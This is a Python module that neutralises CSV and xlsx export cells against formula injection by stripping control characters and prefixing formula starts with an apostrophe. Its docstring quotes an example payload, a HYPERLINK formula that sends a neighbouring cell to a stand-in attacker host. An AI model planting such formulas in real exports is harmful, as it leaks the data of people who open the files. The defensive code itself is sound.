"""Cells of exported files (csv and xlsx) that cannot attack their readers.

A spreadsheet runs a cell starting with ``= + - @``, a tab or a carriage return as a
formula (OWASP "CSV injection": ``=HYPERLINK("http://evil.example/?leak="&A2,"点击")``
sends the neighbouring cells away when clicked). Every writer of an export passes
every cell through :func:`safe_cell`: control characters (illegal in xlsx XML, and a
leading ``\\x01`` would hide the ``=`` from the check) are removed *first*, then a
formula start is neutralised with a leading apostrophe, which spreadsheets show as
text and do not display. ``tests/test_exports_safe.py`` checks every writer uses it.
"""

import re
from collections.abc import Iterable
from typing import Any, Protocol

__all__ = ["FORMULA_START", "append_row", "clean_text", "safe_cell", "safe_row"]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# What XML 1.0 forbids (openpyxl's ILLEGAL_CHARACTERS_RE) and DEL: the C0 controls
# but tab, line feed and carriage return.
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


def clean_text(value: str) -> str:
    return _ILLEGAL.sub("", value)


def safe_cell(value: Any) -> Any:
    """Strings cleaned and neutralised; numbers, dates, booleans and None as they are."""
    if value.__class__ is not str:
        return value
    value = clean_text(value)
    return "'" + value if value.startswith(FORMULA_START) else value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


class _Sheet(Protocol):
    def append(self, iterable: Iterable[Any]) -> None: ...


def append_row(sheet: _Sheet, values: Iterable[Any]) -> None:
    """``sheet.append`` with every cell made safe (openpyxl worksheets, write-only too)."""
    sheet.append(safe_row(values))
